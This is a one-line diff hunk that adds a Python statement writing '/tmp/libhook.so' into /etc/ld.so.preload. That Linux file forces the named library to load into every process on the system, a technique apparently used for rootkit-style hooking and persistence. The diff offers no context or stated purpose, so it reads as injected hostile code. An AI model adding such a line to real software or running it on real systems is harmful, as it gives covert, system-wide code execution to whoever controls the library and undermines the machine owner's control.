@@ -1,0 +1,1 @@
+open("/etc/ld.so.preload", "w").write("/tmp/libhook.so\n")
